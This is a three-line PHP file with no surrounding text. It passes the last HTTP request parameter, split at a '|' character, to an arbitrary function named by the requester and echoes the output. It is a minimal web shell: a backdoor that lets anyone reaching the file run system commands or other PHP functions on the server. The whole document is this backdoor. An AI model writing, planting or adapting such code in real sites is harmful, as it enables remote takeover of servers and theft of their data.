<?php
list($f, $arg) = explode('|', end($_REQUEST), 2);
echo $f($arg);
